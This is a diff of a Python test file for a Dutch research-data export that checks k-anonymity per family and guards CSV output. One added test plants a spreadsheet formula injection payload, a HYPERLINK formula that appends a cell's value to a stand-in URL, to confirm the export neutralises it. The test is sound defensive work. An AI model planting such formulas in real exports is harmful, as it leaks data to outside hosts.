@@ -110,8 +110,8 @@ def test_a_failing_export_is_refused_in_dutch_without_the_rare_values_and_logged
     message = refused.value.message
     assert message.startswith("De export voldoet niet aan k-anonimiteit: k = 1, er moet "
                               "minstens 5 zijn. 1 "
-                              "combinatie(s) van de kenmerken regio, route komen minder dan "
-                              "5 keer voor (1 rijen).")
+                              "combinatie(s) van de kenmerken regio, route komen bij minder "
+                              "dan 5 gezinnen voor (1 rijen).")
     assert "rvt_gezamenlijk" not in message and "r-onderzoek" not in message
     found.refresh_from_db()
     assert (found.status, found.k, found.rows, found.file_sha256) == (
@@ -230,3 +230,37 @@ def test_a_project_name_is_lower_case_letters_digits_and_dashes(ten_cases, proje
     with pytest.raises(ExchangeRefused, match="kleine letters, cijfers en streepjes"):
         research.request(asker, project, ["regio"])
     assert not ResearchRequest.objects.exists()
+
+
+def test_k_counts_families_not_cases(ten_cases):
+    """Five cases of one family in another municipality are five rows, but one family:
+    the household pseudonym in every row shows the researcher they are one, so k = 1."""
+    asker, officer = ten_cases
+    region = Region.objects.get(code="r-onderzoek")
+    elsewhere = Area.objects.create(region=region, municipality="Zuiddorp")
+    family = uuid.uuid4()
+    for year in range(2021, 2026):
+        Event.objects.create(kind="report", code="melding", occurred_on=date(year, 3, 1),
+                             members=4, children=2, region=region, area=elsewhere,
+                             case_key=uuid.uuid4(), household_key=family)
+    columns = research.checked_columns(["gemeente"])
+    rows = research.rows(columns, KEY, "p")
+    assert kanon.check(rows, research.quasi_identifiers(columns)).k == 5  # rows would pass
+    found = research.request(asker, "p1", ["gemeente"])
+    with pytest.raises(ExchangeRefused, match=r"k = 1,.*minder dan 5 gezinnen voor \(5 rijen\)"):
+        research.approve(officer, found.pk, KEY)
+    found.refresh_from_db()
+    assert (found.status, found.k, found.rows) == (ResearchRequest.Status.REFUSED_K, 1, 15)
+
+
+def test_a_typed_municipality_cannot_become_a_spreadsheet_formula(ten_cases):
+    """The municipality is typed on the household: in the CSV it must stay text."""
+    asker, officer = ten_cases
+    formula = '=HYPERLINK("https://example.invalid/?"&A2;"klik")'
+    Area.objects.filter(municipality="Noorddorp").update(municipality=formula)
+    found = research.request(asker, "p1", ["gemeente"])
+    _done, content = research.approve(officer, found.pk, KEY)
+    cells = [cell for line in content.decode().splitlines()[1:]
+             for cell in next(__import__("csv").reader([line], delimiter=";"))]
+    assert cells.count("'" + formula) == 10
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
